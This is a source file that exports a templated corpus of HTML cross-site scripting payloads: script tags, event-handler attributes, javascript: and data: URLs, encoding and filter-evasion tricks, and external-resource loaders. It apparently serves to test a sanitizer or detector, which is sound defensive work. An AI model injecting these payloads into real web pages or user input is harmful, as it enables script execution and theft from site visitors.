/** HTML elements and handlers that run a script, load something, or lead the page elsewhere. */
export const HTML_ELEMENTS = `
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script/x>RUN</script/x>
<script
>RUN</script
>
<script type=module>RUN</script>
<script type="text/javascript;charset=utf-8">RUN</script>
<script src="data:text/javascript,RUN"></script>
<script src=OUT></script>
<script src=//127.0.0.1/OUTSIDE></script>
<script async defer src="data:;base64,cHduZWQoMSk="></script>
<script nomodule>RUN</script><script>RUN</script>
<script type=importmap>{"imports":{"react":"data:text/javascript,RUN"}}</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["OUT"]}]}</script>
<script type=text/plain data-consent=necessary>RUN</script>
<script type=text/plain data-consent=necessary data-src="data:text/javascript,RUN"></script>
<script type=text/plain data-cookieyes=cookieyes-necessary>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script>/*</script><img src=x onerror=RUN>*/</script>
<img src=x onerror=RUN>
<img/src=x/onerror=RUN>
<img src=x oNeRrOr="RUN">
<img src=x onerror="RUN"x>
<img src=x onerror='RUN'/>
<img src=x:x onerror=RUN>
<img src onerror=RUN>
<img src= onerror=RUN>
<img src=x onerror =RUN>
<img src="x"	onerror	=	RUN	>
<img src=x onerror=&#112;wned(NUMBER)>
<img src=x onerror="&#x70;wned&lpar;NUMBER&rpar;">
<img src=x onerror="window['pw'+'ned'](NUMBER)">
<img src=x onerror=eval(atob("cHduZWQoMSk"))>
<img src=x onerror=Function("RUN")()>
<img src=x onerror=setTimeout("RUN")>
<img src=x onerror=import("data:text/javascript,RUN")>
<img src=x onerror=alert(NUMBER)>
<img src=x onerror=alertTICKNUMBERTICK>
<img src=x onerror=top.alert?.(NUMBER)>
<img src=x onerror=location="javascript:RUN">
<img src=x onerror=document.write("<script>RUN</"+"script>")>
<img srcset=",,,,,x" onerror=RUN>
<img src=x loading=lazy onerror=RUN>
<img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 onload=RUN>
<img src=OUT>
<img srcset="OUT 2x">
<img longdesc="javascript:RUN" src=x onerror=RUN>
<img lowsrc="javascript:RUN" dynsrc="javascript:RUN" src=x onerror=RUN>
<img usemap=#m src=x onerror=RUN><map name=m><area href="javascript:RUN" shape=default></map>
<image src=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN></picture>
<picture><source srcset=OUT><img src=x></picture>
<video src=x onerror=RUN></video>
<video><source onerror=RUN src=x></video>
<video poster=x onloadstart=RUN src=x></video>
<video poster=OUT></video>
<video autoplay muted onplay=RUN src=data:video/mp4,x onerror=RUN></video>
<video><track default src=OUT onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<audio autoplay onloadstart=RUN src=x></audio>
<body onload=RUN>
<body onpageshow=RUN>
<body onhashchange=RUN><a href=#x>x</a>
<body background=OUT>
<html onmouseover=RUN>
<frameset onload=RUN><frame src="javascript:parent.RUN"></frameset>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.RUN"></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<iframe src=OUT></iframe>
<iframe onload=RUN></iframe>
<iframe name="RUN" src="javascript:parent.eval(name)"></iframe>
<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>top.RUN</script>"></iframe>
<iframe data-consent=necessary data-src="javascript:parent.RUN"></iframe>
<fencedframe src=OUT onload=RUN></fencedframe>
<portal src=OUT onload=RUN></portal>
<object data="javascript:parent.RUN"></object>
<object data=x onerror=RUN></object>
<object data="data:text/html,<script>parent.RUN</script>"></object>
<object data=OUT type=text/html></object>
<object><param name=src value="javascript:RUN"></object>
<embed src="javascript:parent.RUN">
<embed src=x onload=RUN>
<embed src=OUT type=text/html>
<applet code="javascript:RUN" archive=OUT onerror=RUN></applet>
<link rel=stylesheet href=x onerror=RUN>
<link rel=stylesheet href=OUT>
<link rel=stylesheet href="data:text/css,body{background:url(OUT)}">
<link rel=import href=OUT onload=RUN>
<link rel=preload as=script href=OUT onload=RUN>
<link rel=modulepreload href=OUT onerror=RUN>
<link rel=prefetch href=OUT>
<link rel=icon href=OUT>
<link rel=manifest href=OUT>
<style onload=RUN></style>
<style>@import "javascript:RUN";</style>
<style>@import url(OUT);</style>
<style>@import "OUT" layer(x);</style>
<style>*{background:url(OUT)}</style>
<style>@font-face{font-family:x;src:url(OUT)}*{font-family:x}</style>
<style>*{-moz-binding:url(OUT);behavior:url(OUT)}</style>
<style>*{background:image-set("OUT" 1x)}</style>
<base href="javascript:RUN//">
<base href=OUT target=_top>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=OUT">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<meta http-equiv=set-cookie content="pwned=NUMBER">
<meta name=referrer content=unsafe-url>
<input autofocus onfocus=RUN>
<input onblur=RUN autofocus><input autofocus>
<input type=image src=x onerror=RUN>
<input type=image src=OUT>
<input type=hidden oncontentvisibilityautostatechange=RUN style=content-visibility:auto>
<input type=search onsearch=RUN autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<button popovertarget=p commandfor=p command=show-popover>x</button><div id=p popover onbeforetoggle=RUN>x</div>
<a href=# tabindex=0 autofocus onfocus=RUN>x</a>
<a href="javascript:RUN">x</a>
<a href="OUT" ping="OUT" target=_top>x</a>
<a href="javascript:RUN" download>x</a>
<area href="javascript:RUN" tabindex=0 autofocus onfocus=RUN>
<div contenteditable autofocus onfocus=RUN>x</div>
<div tabindex=0 autofocus onfocusin=RUN>x</div>
<details open ontoggle=RUN>x</details>
<details name=a open ontoggle=RUN><summary>x</summary></details>
<dialog open ontoggle=RUN>x</dialog>
<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<div style="animation:spin 1s" onanimationstart=RUN>x</div>
<div style="transition:color 1s" ontransitionrun=RUN>x</div>
<div onpointerenter=RUN style="position:fixed;inset:0">x</div>
<div onpointerrawupdate=RUN onmouseover=RUN onwheel=RUN style="position:fixed;inset:0">x</div>
<div onscroll=RUN onscrollsnapchange=RUN style="overflow:auto;height:1px"><p>x</p></div>
<div onclick=RUN accesskey=x>x</div>
<div hidden=until-found onbeforematch=RUN>x</div>
<form action="javascript:RUN"><button autofocus>x</button></form>
<form action=OUT><input type=submit autofocus></form>
<form><button formaction="javascript:RUN">x</button></form>
<form><input type=submit formaction="javascript:RUN" value=x></form>
<form id=f action=x></form><button form=f formaction="javascript:RUN">x</button>
<isindex type=image src=x onerror=RUN action="javascript:RUN">
<bgsound src="javascript:RUN" onerror=RUN>
<table background="javascript:RUN"><td background=OUT></table>
<slot onslotchange=RUN><img src=x onerror=RUN></slot>
<div is="x-x" onclick=RUN><img src=x onerror=RUN></div>
<x-x onclick=RUN tabindex=0 autofocus onfocus=RUN>x</x-x>
<poptin-popup client-id=x api-base=OUT></poptin-popup>
<poptin-popup><script type=application/json>{"poptin_id":"x","poptin":"<img src=x onerror=RUN>"}</script></poptin-popup>
<consent-banner log-endpoint=OUT policy-url="javascript:RUN"></consent-banner>
<contact-form-7 form-id=1 api-root=OUT></contact-form-7>
<sbi-feed src=OUT></sbi-feed>
<p style="background:url(javascript:RUN)">x</p>
<p style="background:url(OUT)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="-moz-binding:url(data:text/xml,RUN)">x</p>
<p style="behavior:url(#default#time2)" onbegin=RUN>x</p>
`;
